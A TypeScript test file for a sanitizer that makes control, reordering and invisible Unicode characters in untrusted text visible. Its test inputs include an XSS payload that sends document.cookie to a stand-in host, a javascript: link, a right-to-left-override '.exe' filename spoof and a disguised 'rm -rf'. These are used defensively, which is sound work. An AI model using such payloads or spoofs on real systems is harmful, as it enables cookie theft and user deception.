import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { beginningOf, splitVisible, visibleText } from './visible-text.ts'

describe('B55 nothing hides in untrusted text', () => {
  test.each([
    ['\u001b[2J\u001b]0;x\u0007', '‹ESC›[2J‹ESC›]0;x‹BEL›'],
    ['\u009b31m', '‹U+009B›31m'],
    ['\u202egnp.exe', '‹U+202E›gnp.exe'],
    ['A\u0001\u000b\u009b31mB\u0007', 'A‹SOH›‹VT›‹U+009B›31mB‹BEL›'],
    ['rm\u200b -rf', 'rm‹U+200B› -rf'],
    ['a\u2066b\u2069', 'a‹U+2066›b‹U+2069›'],
    ['hi\u{e0041}\u{e007f}', 'hi‹U+E0041›‹U+E007F›'],
    ['\ud800x', '‹U+D800›x'],
    ['line\rfake', 'line‹CR›fake'],
    ['\u007f', '‹DEL›'],
    ['\u3164', '‹U+3164›'],
  ])('%j shows as %s', (text, shown) => {
    expect(visibleText(text)).toBe(shown)
  })

  test('a heap of combining marks is cut to what a letter can carry, and counted', () => {
    const shown = visibleText(`o${'\u0301'.repeat(200)}k`)
    expect(shown).toBe(`o${'\u0301'.repeat(6)}‹+194 marks›k`)
  })

  test('markup is text like any other', () => {
    const text = `<img src=x onerror=fetch('//x/'+document.cookie)> [a](javascript:alert(1)) </script><script>`
    expect(splitVisible(text)).toEqual([{ type: 'text', text }])
  })

  test('no control, reordering or invisible character is left in any text', () => {
    const hiding = /(?![\t\n])[\p{Cc}\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        expect(visibleText(text)).not.toMatch(hiding)
      }),
    )
  })
})

describe('what people write stays as it is', () => {
  test.each([
    'a tab\tand a\nnew line',
    'ﷺ سلام می‌خواهم',
    'क्षि क्‍ष',
    '👨‍👩‍👧‍👦 👩🏽‍💻 🏳️‍🌈 ❤️',
    'naïve café Å',
    'Việt ngữ',
    '日本語 한국어',
  ])('%s', (text) => {
    expect(splitVisible(text)).toEqual([{ type: 'text', text }])
  })

  test('a joiner inside a Latin word hides something, and shows', () => {
    expect(visibleText('ls\u200d -la')).toBe('ls‹U+200D› -la')
    expect(visibleText('pass\u200cword')).toBe('pass‹U+200C›word')
  })
})

test('a beginning is never cut through a character', () => {
  expect(beginningOf('ab😀', 3)).toEqual({ text: 'ab', isCut: true })
  expect(beginningOf('ab😀', 4)).toEqual({ text: 'ab😀', isCut: false })
})
